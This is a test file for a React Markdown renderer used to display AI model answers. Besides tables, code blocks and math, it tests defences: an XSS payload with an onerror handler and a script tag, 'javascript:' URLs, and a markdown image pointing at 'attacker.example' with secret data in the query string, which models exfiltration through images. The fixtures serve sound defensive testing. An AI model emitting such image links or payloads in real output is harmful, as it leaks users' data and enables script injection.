import { cleanup, render, screen, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { hasMath, normaliseMathDelimiters } from './math';
import { Markdown } from './Markdown';

afterEach(cleanup);

describe('Markdown', () => {
  it('renders a GFM table as a <table>', () => {
    const { container } = render(<Markdown content={'| Name | Qty |\n| --- | ---: |\n| apple | 3 |\n| pear | 5 |'} />);
    const table = container.querySelector('table');
    expect(table).not.toBeNull();
    expect([...table!.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['Name', 'Qty']);
    expect(table!.querySelectorAll('tbody tr')).toHaveLength(2);
  });

  it('renders lists, task lists and strikethrough', () => {
    const { container } = render(<Markdown content={'- [x] done\n- [ ] todo\n\n1. one\n2. two\n\n~~gone~~'} />);
    expect(container.querySelectorAll('ul li input[type="checkbox"]')).toHaveLength(2);
    expect(container.querySelectorAll('ol li')).toHaveLength(2);
    expect(container.querySelector('del')?.textContent).toBe('gone');
  });

  it('renders a fenced code block with its language, a copy button and highlighting once loaded', async () => {
    const { container } = render(<Markdown content={'```python\ndef f():\n    return 1\n```'} />);
    expect(screen.getByText('python')).toBeTruthy();
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeTruthy();
    await waitFor(() => expect(container.querySelector('.hljs-keyword')?.textContent).toBe('def'));
    expect(container.querySelector('pre code')?.textContent).toBe('def f():\n    return 1');
  });

  it('does not render raw HTML from the model', () => {
    const { container } = render(<Markdown content={'<img src=x onerror="alert(1)"> <script>alert(1)</script>'} />);
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('script')).toBeNull();
  });

  it('loads KaTeX only for math, then renders it', async () => {
    const { container } = render(<Markdown content={'Euler: $e^{i\\pi} + 1 = 0$'} />);
    await waitFor(() => expect(container.querySelector('.katex')).not.toBeNull(), { timeout: 5000 });
  });

  it('links open in a new tab without an opener', () => {
    const { container } = render(<Markdown content={'[site](https://example.com)'} />);
    const link = container.querySelector('a')!;
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toContain('noopener');
  });
});

describe('images in answers', () => {
  const pixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

  it('shows a remote image as a link with its alt text and URL, never as an <img>', () => {
    const { container } = render(<Markdown content={'Look: ![the secret](https://attacker.example/pixel?d=secret)'} />);
    expect(container.querySelector('img')).toBeNull();
    const link = container.querySelector('a.remote-image')!;
    expect(link.getAttribute('href')).toBe('https://attacker.example/pixel?d=secret');
    expect(link.getAttribute('rel')).toContain('noreferrer');
    expect(link.textContent).toContain('the secret');
    expect(link.textContent).toContain('https://attacker.example/pixel?d=secret');
  });

  it('treats protocol-relative and plain-http images on other hosts as remote too', () => {
    const { container } = render(<Markdown content={'![a](//attacker.example/a.png) ![b](http://127.0.0.1:9/b.png)'} />);
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelectorAll('a.remote-image')).toHaveLength(2);
  });

  it('renders data:, blob: and same-origin images', () => {
    const sameOrigin = `${window.location.origin}/api/v1/files/abc/content`;
    const { container } = render(<Markdown content={`![dot](${pixel}) ![file](/api/v1/files/abc/content) ![full](${sameOrigin})`} />);
    const sources = [...container.querySelectorAll('img')].map((img) => img.getAttribute('src'));
    expect(sources).toEqual([pixel, '/api/v1/files/abc/content', sameOrigin]);
    expect(container.querySelector('a.remote-image')).toBeNull();
  });

  it('still drops script URLs, and lets data: through only for images', () => {
    const { container } = render(<Markdown content={`![x](javascript:alert(1)) [link](data:text/html,hi)`} />);
    expect(container.innerHTML).not.toContain('javascript:');
    expect(container.querySelector('a[href^="data:"]')).toBeNull();
  });

  it('loads remote images once they are allowed, without a referrer', () => {
    const { container } = render(<Markdown content={'![chart](https://images.example/chart.png)'} allowRemoteImages />);
    const img = container.querySelector('img')!;
    expect(img.getAttribute('src')).toBe('https://images.example/chart.png');
    expect(img.getAttribute('alt')).toBe('chart');
    expect(img.getAttribute('referrerpolicy')).toBe('no-referrer');
  });
});

describe('math detection', () => {
  it('detects TeX and leaves prices alone', () => {
    expect(hasMath('$$x^2$$')).toBe(true);
    expect(hasMath('inline $a+b$ here')).toBe(true);
    expect(hasMath('it costs $5 and $6')).toBe(false);
  });

  it('rewrites \\( \\) and \\[ \\] outside code only', () => {
    expect(normaliseMathDelimiters('a \\(x\\) b \\[y\\] `\\(z\\)`')).toBe('a $x$ b $$y$$ `\\(z\\)`');
  });
});
